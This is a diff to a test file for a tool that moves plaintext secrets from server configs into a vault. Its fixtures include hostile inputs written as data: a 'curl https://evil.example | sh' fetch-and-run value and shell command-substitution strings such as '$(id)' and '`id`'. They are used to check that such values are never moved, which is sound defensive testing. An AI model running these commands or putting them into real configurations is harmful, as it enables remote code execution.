@@ -2,7 +2,7 @@
 /** Values in the open that look like secrets, and what becomes of them when they are moved. */
 
 import { describe, expect, test } from 'vitest'
-import { moveSecrets, plainSecrets } from '../../../src/host/config/plain-secrets.ts'
+import { moveSecrets, plainSecrets, withoutPlainSecrets } from '../../../src/host/config/plain-secrets.ts'
 import { resolveWay } from '../../../src/host/config/resolve.ts'
 import type { ServerSpec, Way } from '../../../src/host/servers/spec.ts'
 import { openVault } from '../../../src/host/vault/vault.ts'
@@ -55,6 +55,56 @@ describe('looks like a secret', () => {
   })
 })
 
+describe('goes to the vault', () => {
+  const movedOf = (way: Way): string[] => plainSecrets({ way }).flatMap(({ where, isMovable }) => (isMovable ? [where] : []))
+  const run = (command: string, args: string[], env: Record<string, string> = {}): Way => ({ transport: 'stdio', command, args, env })
+
+  test.each<[string, Way, string[]]>([
+    ['the value of a known option', run('npx', ['-y', 'mail', '--token', 'hunter22', '--api-key=hunter23']), ['args[3]', 'args[4]']],
+    ['of one with words before it', run('mail', ['--githubToken', TOKEN, '--db.password=hunter22']), ['args[1]', 'args[2]']],
+    ['a variable', run('docker', ['run', '-i', '-e', 'GH_TOKEN', 'image'], { GH_TOKEN: TOKEN }), ['env.GH_TOKEN']],
+    [
+      'a header and a part of a URL',
+      reached(`https://a:hunter22@x.example`, { Authorization: `Bearer ${RANDOM}` }),
+      ['url', 'headers.Authorization'],
+    ],
+  ])('%s', (_what, way, where) => {
+    expect(movedOf(way)).toEqual(where)
+  })
+
+  test.each<[string, Way]>([
+    ['what a shell runs', run('sh', ['-c', 'token=x; touch pwned; exec cat'])],
+    ['what a shell runs behind another program', run('env', ['sh', '-c', `token=${TOKEN}`])],
+    ['an argument of a shell', run('/bin/bash', ['start.sh', '--token', 'hunter22'])],
+    ['what an interpreter runs', run('node', ['-e', TOKEN])],
+    ['what it runs with the option in one word', run('python3', ['-c=token', `--eval=${TOKEN}`])],
+    ['what comes after that', run('node', ['--eval', 'x', '--token', 'hunter22'])],
+    ['an option that runs something', run('tool', ['--exec', TOKEN, '--command', TOKEN])],
+    ['white space', run('mail', ['--token', 'two words', '--password=a\tb'])],
+    ['shell characters', run('mail', ['--token', '$(touch${IFS}x)', '--password=a;b', '--secret=`id`', '--api-key=a|b', '--pat=a>b'])],
+    ['an option that is none we know', run('mail', ['--tokenizer', TOKEN, '--x', TOKEN, '--secret-mode', TOKEN])],
+    ['a word on its own', run('mail', [TOKEN, RANDOM, `token=${TOKEN}`, `Authorization: Bearer ${TOKEN}`])],
+    ['a part of an argument', run('mail', ['--token=sk-abcdefghijklmnop12345${env:X}', 'postgres://ada:hunter22@db/x'])],
+    ['another option', run('mail', ['--token', '--eval-password'])],
+    ['variables that change what runs', run('mail', [], { NODE_OPTIONS: TOKEN, LD_PRELOAD: TOKEN, GIT_SSH_COMMAND: TOKEN, PATH: TOKEN })],
+    ['variables of something that is a program itself', run('sh', ['-c', 'eval "$TOKEN"'], { TOKEN: 'payload.sh' })],
+    ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
+  ])('never %s', async (_what, way) => {
+    expect(movedOf(way)).toEqual([])
+    const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
+    expect((await moveSecrets(spec(way), vault)).way).toEqual(way)
+    expect(await vault.list()).toEqual([])
+    expect(withoutPlainSecrets(spec(way)).way).toEqual(way)
+  })
+
+  test('is shown by its length until then, unless somebody else may have written the file', () => {
+    const way = run('mail', ['--token', 'hunter22', TOKEN])
+    expect(withoutPlainSecrets(spec(way)).way).toMatchObject({ args: ['--token', '[8 characters hidden]', TOKEN] })
+    const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
+    expect(withoutPlainSecrets({ ...spec(way), provenance }).way).toEqual(way)
+  })
+})
+
 describe('moving', () => {
   const vaultIn = (folder: string) => openVault({ folder, keychain: false, onWarning: () => {} })
 
@@ -96,7 +146,8 @@ describe('moving', () => {
 
   test('keeps a value as it is, also one that looks like a placeholder', async () => {
     const vault = await vaultIn(newFolder())
-    const moved = await moveSecrets(spec(started({ API_KEY: '${$}{env:HOME}' })), vault)
-    expect(await resolveWay(moved.way, { secret: vault.get })).toMatchObject({ env: { API_KEY: '${env:HOME}' } })
+    const moved = await moveSecrets(spec(reached('https://x.example', { 'X-Api-Key': '${$}{env:HOME}' })), vault)
+    expect(JSON.stringify(moved.way)).toContain('${secret:server/X-Api-Key}')
+    expect(await resolveWay(moved.way, { secret: vault.get })).toMatchObject({ headers: { 'X-Api-Key': '${env:HOME}' } })
   })
 })
